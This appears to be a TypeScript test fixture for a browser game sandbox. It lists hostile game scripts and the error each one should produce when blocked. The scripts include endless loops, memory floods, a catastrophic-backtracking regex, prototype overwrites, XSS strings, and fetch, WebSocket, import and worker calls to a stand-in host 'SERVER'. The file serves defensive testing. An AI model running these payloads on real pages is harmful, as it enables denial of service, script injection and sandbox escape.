/** A game that is against the page, and what the page then shows. */
interface HostileGame {
  readonly name: string;
  /** The text of the file; `SERVER` stands for the address of a server that nothing may reach. */
  readonly source: string;
  readonly says: RegExp;
}

/** The members of a game of one move for one seat, each as a text that a hostile game replaces. */
const MEMBERS = {
  id: "'plain'",
  seats: '1',
  deal: '() => ({ done: false })',
  moves: '({ done }) => (done ? [] : [0, 1])',
  play: '(state) => void (state.done = true)',
  view: '{ done: ({ done }) => done }',
  measures: '{ win: { of: () => true } }',
};

/** A game with some members replaced, and code before it. */
function game(
  changed: Readonly<
    Partial<Record<keyof typeof MEMBERS | 'title' | 'summary' | 'moveText' | 'toMove' | 'strategies', string>>
  >,
  before = '',
): string {
  const members = Object.entries({ ...MEMBERS, ...changed }).map(([name, text]) => `  ${name}: ${text},`);
  return [
    "import { defineGame } from '@cards/core';",
    before,
    'export const mine = defineGame({',
    ...members,
    '});',
  ].join('\n');
}

/** What a game says in the console before it stops to answer, so that a test knows when that is. */
export const SILENCE = 'the game is silent';

const SAYS = `console.log('${SILENCE}');`;
const LOOP = `{ ${SAYS} for (;;); }`;
/** What the page says about a game that is silent. */
export const SILENT = /The code was silent for 4 seconds and was ended/;
const HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload="alert(3)">';

/** Endless loops, hunger for memory, floods, and ways out. */
export const HOSTILE: readonly HostileGame[] = [
  { name: 'a loop when it is loaded', source: game({}, LOOP), says: SILENT },
  { name: 'a loop in deal', source: game({ deal: `() => ${LOOP}` }), says: SILENT },
  { name: 'a loop in moves', source: game({ moves: `() => ${LOOP}` }), says: SILENT },
  { name: 'a loop in toMove', source: game({ toMove: `() => ${LOOP}`, seats: '2' }), says: SILENT },
  { name: 'a loop in the view', source: game({ view: `{ done: () => ${LOOP} }` }), says: SILENT },
  { name: 'a loop in moveText', source: game({ moveText: `() => ${LOOP}` }), says: SILENT },
  {
    name: 'a loop in seats',
    source: game({ seats: `() => ${LOOP}`, toMove: '() => 0', measures: '{ win: { of: (_, seat) => seat === 0 } }' }),
    says: SILENT,
  },
  {
    name: 'a loop in a regular expression',
    source: game({ moveText: `() => { ${SAYS} return String(/^(a+)+$/.test('a'.repeat(60) + 'b')); }` }),
    says: SILENT,
  },
  {
    name: 'all memory in arrays of bytes',
    source: game({}, 'const all = []; for (;;) all.push(new Uint8Array(2 ** 30).fill(1));'),
    says: /Array buffer allocation failed|silent for 4 seconds|was ended/,
  },
  {
    name: 'all memory in objects',
    source: game({}, `${SAYS} const all = []; for (;;) all.push({ all });`),
    says: SILENT,
  },
  {
    name: 'all memory in a map of texts, in a hook',
    source: game({
      moves: `() => { ${SAYS} const all = new Map(); for (;;) all.set(all.size, \`text \${all.size}\`); }`,
    }),
    says: SILENT,
  },
  {
    name: 'a text that doubles',
    source: game({}, "let text = 'x'; for (;;) text += text;"),
    says: /Invalid string length/,
  },
  {
    name: 'a view with a million members',
    source: game({ view: '{ all: () => Object.fromEntries(Array.from({ length: 1e6 }, (_, at) => [`m${at}`, at])) }' }),
    says: /the view of seat 0 has \d+ characters as JSON, and this page shows at most 20000|silent for 4 seconds/,
  },
  {
    name: 'a million moves',
    source: game({ moves: '({ done }) => (done ? [] : Array.from({ length: 1e6 }, (_, at) => at))' }),
    says: /has 1000000 legal moves, and this page shows at most 300|silent for 4 seconds/,
  },
  {
    name: 'changed prototypes',
    source: game({}, 'Array.prototype.map = () => { throw new Error("mine"); };'),
    says: /Cannot assign to read only property|changes 'map'/,
  },
  { name: 'fetch', source: game({}, 'fetch("http://SERVER/fetch");'), says: /fetch is not a function/ },
  {
    name: 'importScripts',
    source: game({}, 'importScripts("http://SERVER/scripts");'),
    says: /importScripts is not a function/,
  },
  {
    name: 'a module of another address',
    source: game({}, 'import x from "http://SERVER/module"; console.log(x);'),
    says: /which this page does not have/,
  },
  {
    name: 'a socket',
    source: game({}, 'new WebSocket("ws://SERVER/socket");'),
    says: /WebSocket is not a constructor/,
  },
  { name: 'storage', source: game({}, 'localStorage.setItem("a", "b");'), says: /localStorage is not defined/ },
  { name: 'a database', source: game({}, 'indexedDB.open("a");'), says: /undefined/ },
  {
    name: 'the address of the page',
    source: game({}, 'parent.location = "http://SERVER/parent";'),
    says: /parent is not defined/,
  },
  { name: 'cookies', source: game({}, 'document.cookie = "a=b";'), says: /document is not defined/ },
  {
    name: 'a service worker',
    source: game({}, 'navigator.serviceWorker.register("http://SERVER/worker");'),
    says: /undefined/,
  },
  { name: 'messages', source: game({}, 'for (;;) postMessage("{}");'), says: /postMessage is not a function/ },
  {
    name: 'code from text',
    source: game({}, 'new Function("return this")().fetch("http://SERVER/eval");'),
    says: /eval|Content Security Policy/i,
  },
  {
    name: 'an endless console',
    source: game({ moveText: '() => { for (;;) console.log("flood"); }' }),
    says: /was ended|silent for 4 seconds/,
  },
  {
    name: 'HTML in every text',
    source: game({
      title: `'${HTML}'`,
      summary: `'${HTML}'`,
      moveText: `() => '${HTML}'`,
      view: `{ '<b>name</b>': () => ['${HTML}', ['${HTML}']] }`,
      strategies: `{ '<i>bold</i>': () => 0 }`,
    }),
    says: /<img src=x|<b>name|must|name/,
  },
  { name: 'an error that is no error', source: game({}, `throw { toString() ${LOOP} };`), says: SILENT },
  {
    name: 'a timer',
    source: game({ play: '(state) => { state.done = true; setTimeout(() => { for (;;); }); }' }),
    says: /Your move/,
  },
  {
    name: 'no game',
    source: 'export const mine = 1;',
    says: /'game\.ts' exports no game: write export const game = defineGame/,
  },
  { name: 'no TypeScript', source: 'export const = <<<;', says: /Unexpected token/ },
];

/** A game that keeps 16 MB more of the heap in each move: more than 4 GB, which is what a browser has for a script. */
export const HEAP = game(
  { moves: '({ done }) => { kept.push(new Array(2 ** 22).fill(kept)); return done ? [] : [0, 1]; }' },
  'const kept: unknown[] = [];',
);

/** Runs scripts in frames of their own, and answers with what each says at first, or why the frame has ended it. */
async function inFrame({
  scripts,
  address,
}: {
  readonly scripts: readonly (readonly [name: string, code: string])[];
  /** Where the frame comes from. */
  readonly address: { readonly src: string } | { readonly srcdoc: string };
}): Promise<Record<string, string>> {
  const answerOf = async ([name, code]: readonly [name: string, code: string]): Promise<readonly [string, string]> => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    Object.assign(frame, address);
    const answer = await new Promise<string>((resolve) => {
      const listen = ({ source, data }: MessageEvent<{ isReady?: boolean; text?: string; problem?: string }>): void => {
        if (source !== frame.contentWindow) return;
        if (data.isReady === true) frame.contentWindow?.postMessage({ id: 0, code }, '*');
        else if (data.text !== '{}') {
          removeEventListener('message', listen);
          resolve(data.text ?? data.problem ?? '');
        }
      };
      addEventListener('message', listen);
      document.body.append(frame);
    });
    frame.remove();
    return [name, answer];
  };
  return Object.fromEntries(await Promise.all(scripts.map(answerOf)));
}

/** A script that tries something, and says whether it was refused. */
const tries = (code: string): string =>
  `(async () => { ${code} })().then((value) => postMessage('done: ' + value), (error) => postMessage('refused: ' + error));`;

/** What a script tries that has taken over the worker, so that only the frame guards the page. */
export const RAW = {
  inFrame,
  scripts: [
    ['fetch', tries('return (await fetch("http://SERVER/raw-fetch")).status;')],
    ['the same site', tries(`return (await fetch(new URL('/', 'http://SERVER/'))).status;`)],
    ['scripts', tries('importScripts("http://SERVER/raw-scripts");')],
    ['a module', tries('await import("http://SERVER/raw-module");')],
    ['a module of data', tries('await import("data:text/javascript,1");')],
    ['code from text', tries('return eval("1 + 1");')],
    [
      'a request of old',
      tries(
        'const request = new XMLHttpRequest(); request.open("GET", "http://SERVER/raw-xhr", false); request.send();',
      ),
    ],
    [
      'a socket',
      tries(
        'await new Promise((resolve, reject) => { const socket = new WebSocket("ws://SERVER/raw-socket"); socket.onopen = resolve; socket.onerror = reject; });',
      ),
    ],
    [
      'events',
      tries(
        'await new Promise((resolve, reject) => { const events = new EventSource("http://SERVER/raw-events"); events.onopen = resolve; events.onerror = reject; });',
      ),
    ],
    ['a font', tries('await new FontFace("a", "url(http://SERVER/raw-font)").load();')],
    [
      'a database',
      tries(
        'await new Promise((resolve, reject) => { const asked = indexedDB.open("a"); asked.onsuccess = resolve; asked.onerror = () => reject(asked.error); });',
      ),
    ],
    ['a cache', tries('await caches.open("a");')],
    ['files', tries('await navigator.storage.getDirectory();')],
    ['a service worker', tries('await navigator.serviceWorker.register("sandbox.html");')],
    [
      'a worker of another address',
      tries(
        'await new Promise((resolve, reject) => { const worker = new Worker("http://SERVER/raw-worker"); worker.onmessage = resolve; worker.onerror = reject; });',
      ),
    ],
    [
      'a worker that fetches',
      tries(
        'await new Promise((resolve, reject) => { const code = "fetch(`http://SERVER/raw-nested`).then(() => postMessage(1), () => postMessage(0))"; const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = ({ data }) => (data === 1 ? resolve() : reject("nested")); worker.onerror = reject; });',
      ),
    ],
    ['a flood', 'for (;;) postMessage("{}");'],
    ['a long text', 'postMessage("x".repeat(5e6));'],
    ['no text', 'postMessage({ text: "x" });'],
  ] as readonly (readonly [name: string, code: string])[],
};
